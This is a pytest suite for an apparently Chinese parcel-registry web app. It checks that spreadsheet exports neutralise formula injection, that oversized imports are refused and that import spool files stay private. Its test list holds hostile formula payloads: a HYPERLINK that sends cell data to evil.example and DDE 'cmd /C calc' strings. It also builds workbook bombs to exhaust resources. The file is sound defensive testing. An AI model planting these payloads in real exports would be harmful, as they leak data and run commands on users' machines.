"""Files in and out (issue 19, items 6-9): formula injection in every export, bounded imports, private
spool files, evidence that no longer matches its hash."""

from __future__ import annotations

import ast
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from parcelguard.core.excel import neutralise, unneutralise, write_xlsx

ROOT = Path(__file__).resolve().parent.parent

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u3000=1+1",
    "＝1+1",
    "=1+1\n第二行",
]


def _reopen(data: bytes):
    return load_workbook(io.BytesIO(data)).worksheets[0]  # not data_only: formulas would show as formulas


@pytest.mark.parametrize("value", HOSTILE)
def test_every_text_cell_that_would_be_a_formula_is_written_as_text(value):
    buffer = io.BytesIO()
    write_xlsx(buffer, "导出", [value, "名称"], [[value, 1, None, 2.5], ["普通文本", value]])
    ws = _reopen(buffer.getvalue())
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    texts = [c.value for c in cells if isinstance(c.value, str) and c.value != "普通文本" and c.value != "名称"]
    assert texts and all(t.startswith("'") for t in texts), texts
    assert ws.cell(row=2, column=2).value == 1 and ws.cell(row=2, column=4).value == 2.5


def test_ordinary_values_are_unchanged_and_the_quote_is_removed_on_import():
    for value in ("中通涵江江口营业部", "13905941234", "2026-03-01", "A-1", "福建省莆田市"):
        assert neutralise(value) == value
    for value in HOSTILE:
        assert unneutralise(neutralise(value)) == value.translate({c: None for c in range(32) if c not in (9, 10, 13)})
    assert unneutralise("'普通") == "'普通"


def test_no_module_writes_a_workbook_outside_core_excel():
    """One place writes spreadsheets: every other module calls core.excel, so every export is neutralised."""
    offenders = []
    for path in (ROOT / "parcelguard").rglob("*.py"):
        if path.name == "excel.py" and path.parent.name == "core":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            name = node.attr if isinstance(node, ast.Attribute) else node.id if isinstance(node, ast.Name) else ""
            if name in {"Workbook", "WriteOnlyCell", "writer", "DictWriter", "xlsxwriter"}:
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} {name}")
    assert not offenders, offenders


def test_a_site_renamed_to_a_formula_is_text_in_the_county_export(cast, client_for):
    from parcelguard.registry.models import Site

    Site.objects.filter(pk=cast.outlet_a1.pk).update(name="=cmd|' /C calc'!A0")
    response = client_for(cast.centre_a).get("/registry/sites/export.xlsx")
    assert response.status_code == 200
    ws = _reopen(b"".join(response.streaming_content))
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert "'=cmd|' /C calc'!A0" in [c.value for c in cells]


# ---- imports: bounded before parsing (item 7), private and short-lived spool files (item 8) --------------

def _raw_xlsx(sheet_xml: bytes, shared_xml: bytes | None = None) -> bytes:
    """A minimal workbook written by hand, as an attacker would: openpyxl is not used to build it."""
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
            'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.worksheet+xml"/></Types>'))
        zf.writestr("_rels/.rels", (
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'officeDocument" Target="xl/workbook.xml"/></Relationships>'))
        zf.writestr("xl/workbook.xml", (
            '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" '
            'sheetId="1" r:id="rId1"/></sheets></workbook>'))
        zf.writestr("xl/_rels/workbook.xml.rels", (
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'worksheet" Target="worksheets/sheet1.xml"/></Relationships>'))
        zf.writestr("xl/worksheets/sheet1.xml", sheet_xml)
        if shared_xml is not None:
            zf.writestr("xl/sharedStrings.xml", shared_xml)
    return buffer.getvalue()


def _sheet(rows: int, cols: int) -> bytes:
    cells = "".join('<c t="inlineStr"><is><t>x</t></is></c>' for _ in range(cols))
    body = "".join(f"<row>{cells}</row>" for _ in range(rows))
    return (f'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            f"<sheetData>{body}</sheetData></worksheet>").encode()


def test_a_small_workbook_with_two_million_cells_is_refused_fast_before_parsing(cast):
    import time

    from parcelguard.registry.imports import ImportRejected, import_preview

    data = _raw_xlsx(_sheet(20_000, 100))  # 2 M cells
    assert len(data) < 1_000_000
    started = time.perf_counter()
    with pytest.raises(ImportRejected) as exc:
        import_preview(user=cast.centre_a, kind_slug="sites", data=data)
    assert exc.value.code == "too_many_cells" and "400000" in exc.value.message
    assert time.perf_counter() - started < 5


def test_three_million_shared_strings_are_refused_without_growing_the_worker(cast):
    import resource
    import time

    from parcelguard.registry.imports import ImportRejected, import_preview

    shared = (b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
              + b"<si><t>a</t></si>" * 3_000_000 + b"</sst>")
    data = _raw_xlsx(_sheet(1, 3), shared)
    assert len(data) < 2_000_000
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.perf_counter()
    with pytest.raises(ImportRejected) as exc:
        import_preview(user=cast.centre_a, kind_slug="sites", data=data)
    assert exc.value.code == "too_many_cells"
    assert time.perf_counter() - started < 5
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert grown_mb < 100, grown_mb


def test_a_very_wide_row_is_refused(cast):
    from parcelguard.registry.imports import ImportRejected, import_preview

    with pytest.raises(ImportRejected) as exc:
        import_preview(user=cast.centre_a, kind_slug="sites", data=_raw_xlsx(_sheet(2, 150)))
    assert exc.value.code == "too_many_columns"
    csv_data = ("," * 150 + "\n").encode() * 2
    with pytest.raises(ImportRejected) as exc:
        import_preview(user=cast.centre_a, kind_slug="sites", data=csv_data)
    assert exc.value.code == "too_many_columns"


def _site_csv(cast, bad: bool = False) -> bytes:
    rows = [["网点编码", "网点名称", "类型", "所属企业信用代码", "区县代码", "网格编码", "备案地址", "负责人电话"],
            ["PTZTOWD0101", "中通涵江江口营业部", "营业网点", cast.enterprise_x.credit_code, "350303", "350303001",
             "福建省莆田市涵江区江口镇江口大道18号", "13905941234" if not bad else "不是电话"]]
    if bad:
        rows[1][4] = "999999"
    return "\n".join(",".join(r) for r in rows).encode()


def _post(client, data: bytes):
    upload = io.BytesIO(data)
    upload.name = "网点.csv"
    return client.post("/registry/import/", {"kind": "sites", "file": upload})


def test_a_preview_spool_is_private_and_deleted_on_confirmation(cast, client_for, settings):
    import stat

    client = client_for(cast.centre_a)
    response = _post(client, _site_csv(cast))
    assert response.status_code == 200 and not response.context["preview"].errors
    folder = settings.DATA_DIR / "imports"
    spooled = list(folder.iterdir())
    assert len(spooled) == 1
    assert stat.S_IMODE(spooled[0].stat().st_mode) == 0o600
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert client.post(f"/registry/import/{response.context['token']}/").status_code == 302
    assert list(folder.iterdir()) == []


def test_a_rejected_file_leaves_nothing_on_disk(cast, client_for, settings):
    client = client_for(cast.centre_a)
    response = _post(client, _site_csv(cast, bad=True))
    assert response.context["preview"].errors and "token" not in response.context
    folder = settings.DATA_DIR / "imports"
    assert not folder.exists() or list(folder.iterdir()) == []
    response = _post(client, b"\x00\x01binary")
    assert response.status_code == 400
    assert not folder.exists() or list(folder.iterdir()) == []


def test_an_unconfirmed_spool_is_purged_by_the_scheduled_job(cast, client_for, settings):
    import os
    import time

    from parcelguard.core.schedule import JOBS
    from parcelguard.registry.tasks import purge_import_spool_task

    assert "purge_import_spool" in {j.name for j in JOBS}
    client = client_for(cast.centre_a)
    token = _post(client, _site_csv(cast)).context["token"]
    folder = settings.DATA_DIR / "imports"
    fresh = _post(client_for(cast.city_bureau), _site_csv(cast)).context["token"]
    old = time.time() - settings.IMPORT_SPOOL_MAX_AGE - 60
    os.utime(folder / token, (old, old))
    purge_import_spool_task.call()
    assert sorted(p.name for p in folder.iterdir()) == [fresh]
    response = client.post(f"/registry/import/{token}/")  # expired: nothing imported, a clear message
    assert response.status_code == 302


def test_a_workbook_with_wrong_headers_is_refused_at_its_first_row(cast):
    """The header row is checked as soon as it is read: the body of a wrong file is never parsed."""
    import time

    from parcelguard.registry.imports import ImportRejected, import_preview

    data = _raw_xlsx(_sheet(19_000, 20))  # 380,000 cells: under the bound, headers "x"
    started = time.perf_counter()
    with pytest.raises(ImportRejected) as exc:
        import_preview(user=cast.centre_a, kind_slug="sites", data=data)
    assert exc.value.code == "bad_headers"
    assert time.perf_counter() - started < 3
